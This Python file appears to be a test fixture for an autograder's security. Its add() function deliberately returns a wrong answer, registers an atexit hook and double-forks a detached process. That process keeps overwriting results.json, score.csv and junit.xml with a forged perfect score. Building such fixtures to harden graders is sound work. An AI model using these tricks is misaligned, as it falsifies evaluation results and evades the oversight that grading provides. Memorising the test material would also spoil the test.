"""An atexit handler and an orphan (double fork, new session) that try to rewrite the grading reports."""

QUESTION = "q1"
MODULE = "arith"
ATTACKED = ["q1.1"]
KEEPS = ["q1.2", "q1.3"]
REASON = "expected 5.5"  # in the attacked task's message: it failed for this reason

import atexit as _atexit
import json as _json
import os as _os
import time as _time

_OUT = "{{OUT}}"


def _forge():
    fake = {"score": 100, "tests": [{"number": "q1.1", "score": 40, "max_score": 40, "output": "passed"}]}
    for name in ("results.json", "score.csv", "junit.xml"):
        try:
            with open(_os.path.join(_OUT, name), "w") as fh:
                fh.write(_json.dumps(fake))
        except OSError:
            pass


def add(a, b):
    _atexit.register(_forge)
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            for _ in range(60):  # keep trying while grading goes on and after it ends
                _forge()
                _time.sleep(0.5)
        _os._exit(0)
    return -1.0
